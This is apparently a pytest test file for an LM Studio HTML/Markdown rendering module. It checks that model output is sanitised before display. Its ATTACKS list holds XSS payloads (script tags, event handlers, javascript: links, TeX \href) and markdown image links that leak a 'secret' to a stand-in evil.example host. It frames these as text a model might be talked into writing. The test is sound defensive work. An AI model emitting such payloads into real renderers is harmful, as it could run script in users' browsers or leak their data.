"""Text of models as HTML and Markdown: it reads well, and nothing in it acts."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from types import SimpleNamespace

import hypothesis
import markdown_it
import pytest
from hypothesis import strategies as st

from lmstudio import html

#: What a model could be talked into writing.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT\n>alert(1)</SCRIPT>",
    "text <img src=x onerror=alert(1)> text",
    '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "[x](javascript:alert(1))",
    "[x]( JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/?secret)",
    "![x][1]\n\n[1]: https://evil.example/?secret",
    "`<script>` alert(1) </script>`",
    "``a ` <script>alert(1)</script>``",
    "`unclosed <script>alert(1)</script>",
    "```\ncode\n```\n<script>alert(1)</script>",
    "```\n~~~\n<script>alert(1)</script>\n```",
    "~~~\n```\n<script>alert(1)</script>",
    "> ```\n> <script>alert(1)</script>",
    "- ```\n  <script>alert(1)</script>\n  ```",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\n<script>alert(1)</script>\n$$",
    "\\[ <img src=x onerror=alert(1)> \\]",
    "```js onload=alert(1) \"'><script>\nx\n```",
    "<!-- --><script>alert(1)</script>",
    "<?php ?><![CDATA[<script>]]>",
    "`[x]`(javascript:alert(1))",
]


def without_blocks(markdown: str) -> str:
    """The Markdown without our code blocks, which every renderer finds."""
    return re.sub(
        r"(?:^|(?<=\n\n))(`{3,})[^`\n]*\n.*?\n\1(?=\n\n|$)", "", markdown, flags=re.S
    )


class Tags(HTMLParser):
    """Collects the tags of a text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, list[str]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, [name for name, _ in attrs]))


@pytest.mark.parametrize("is_open", [False, True])
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_gets_through(attack, is_open):
    """No tag but our own, no link to a script, no image, no command of TeX."""
    made = without_blocks(html.markdown(attack, is_open=is_open))

    assert [] == [tag for tag in Tags(made).found if tag != ("code", [])]
    assert None is re.search(r"<(?!/?code>)[a-z/!?]", made, re.IGNORECASE)
    assert None is re.search(
        r"\]\s?[(:](?!\s*https?:)", made.replace("] (", "").replace("] :", "")
    )
    assert "![" not in made
    assert "\\href" not in made


def rendered(markdown: str) -> list[tuple[str, dict[str, str | None]]]:
    """The tags that a real renderer makes, with HTML and links of all kinds allowed."""
    renderer = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table")
    renderer.validateLink = lambda url: True
    found: list[tuple[str, dict[str, str | None]]] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, dict(attrs)))

    reader = Reader()
    reader.feed(renderer.render(markdown))
    reader.close()
    return found


#: What Markdown itself makes.
PLAIN_TAGS = {"p", "pre", "code", "a", "em", "strong", "ul", "ol", "li", "hr", "br"}
PLAIN_TAGS |= {"blockquote", "h1", "h2", "h3", "h4", "h5", "h6"}


def assert_harmless(tags: list[tuple[str, dict[str, str | None]]]) -> None:
    """No tag and no link that Markdown for reading does not need."""
    assert set() == {tag for tag, _ in tags} - PLAIN_TAGS
    for tag, fields in tags:
        assert set() == set(fields) - {"href", "title", "class", "start"}
        if tag == "a":
            assert re.match(r"(https?://|mailto:|#)", fields["href"], re.IGNORECASE)


@pytest.mark.parametrize("is_open", [False, True])
@pytest.mark.parametrize("attack", ATTACKS)
def test_a_real_renderer_finds_nothing(attack, is_open):
    """Rendered as a notebook would, with HTML allowed, an attack is only text."""
    assert_harmless(rendered(html.markdown(attack, is_open=is_open)))


def test_the_renderer_would_find_them():
    """The check can fail: unchanged, attacks come through the renderer."""
    for attack in ATTACKS[:9]:
        with pytest.raises(AssertionError):
            assert_harmless(rendered(attack))


pieces = st.lists(
    st.sampled_from(
        [*"`~<>$![]():/ \n\\ab", "```", "~~~", "<b", "javascript:", "](", "]:"]
    ),
    max_size=24,
).map("".join)


@pytest.mark.slow
@hypothesis.given(pieces)
def test_no_mixture_gets_through(text):
    """Whatever fences, code and formulas do to each other, no tag is left."""
    made = without_blocks(html.markdown(text))
    assert_harmless(rendered(html.markdown(text)))

    assert None is re.search(r"<(?!/?code>)[a-z/!?]", made, re.IGNORECASE)
    assert "![" not in made
    assert None is re.search(r"\][(:](?!\s*(https?:|mailto:|#))", made)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("# A\n\n**b** and `c`", "# A\n\n**b** and `c`"),
        ("a < b and a<5", "a < b and a<5"),
        ("a <b> c", "a &lt;b> c"),
        ("`List<int>`", "<code>List&#60;int&#62;</code>"),
        ("$a<b$", "$a< b$"),
        ("[x](https://example.org)", "[x](https://example.org)"),
        ("[x](#here) [y](mailto:a@b)", "[x](#here) [y](mailto:a@b)"),
        ("```c++\n#include <a>\n```", "```c++\n#include <a>\n```"),
        ("a\n```\nb\n```\nc", "a\n\n```\nb\n```\n\nc"),
        (
            "1. x\n   ```py\n   if a<b:\n       c\n   ```",
            "1. x\n\n```py\nif a<b:\n    c\n```",
        ),
        ("~~~\n```\n~~~", "````\n```\n````"),
        ("```py\nx = 1", "```py\nx = 1\n```"),
        ("", ""),
        ("\ud800", "?"),
    ],
)
def test_it_reads_well(text, expected):
    """Markdown stays Markdown, and code is not changed."""
    assert expected == html.markdown(text)


def test_a_block_that_is_not_closed_yet():
    """It is plain, and becomes coloured once it is closed."""
    assert "```\nx = 1\n```" == html.markdown("```py\nx = 1", is_open=True)
    assert "```py\nx\n```" == html.markdown("```py\nx\n```", is_open=True)


@pytest.mark.parametrize("make", [html.dim, lambda text: html.folded("Thoughts", text)])
def test_one_line_for_every_parser(make):
    """Neither Markdown nor TeX nor HTML finds anything in it."""
    made = make("a\n\n</pre></details><script>*b* `c` $d$ [e](f)")

    assert "\n" not in made
    inside = re.sub(r"<[^>]*>|&#\d+;", "", made)
    assert set() == set(inside) & set("<>*`$[]()")
    assert "script" not in [tag for tag, _ in Tags(made).found]


@pytest.mark.parametrize(
    "make",
    [
        lambda text: html.bubble("user", text),
        lambda text: html.bubble(text, "x"),
        lambda text: html.box(text, text),
        lambda text: html.bar(text, 0.5),
        lambda text: html.table([text], [[text]], 1),
    ],
)
def test_html_is_escaped(make):
    """What is put into HTML is text there."""
    tags = {"div", "b", "progress", "table", "thead", "tbody", "tr", "th", "td"}
    made = make("\"'><script>alert(1)</script>\ud800")

    assert "<script" not in made
    assert "\ud800" not in made
    assert {tag for tag, _ in Tags(made).found} <= tags


def test_a_table_is_a_list():
    """A list in all, and not longer on the screen than people read."""

    class Sizes(html.Table[SimpleNamespace]):
        COLUMNS = (("name", "info.name"), ("size", "info.size_bytes"))

    items = [
        SimpleNamespace(info=SimpleNamespace(name=f"n{i}" * 200, size_bytes=10**i))
        for i in range(120)
    ]
    made = Sizes(items)
    shown = made._repr_html_()

    assert isinstance(made, list)
    assert items == made
    assert 1 + html.ROWS == shown.count("<tr>")
    assert shown.endswith("<i>… 20 more</i>")
    assert "<td>1 bytes</td>" in shown
    assert "<td>10 kB</td>" in shown
    assert "<td>1.00 GB</td>" in shown
    assert "<td></td>" in Sizes([SimpleNamespace(info=None)])._repr_html_()
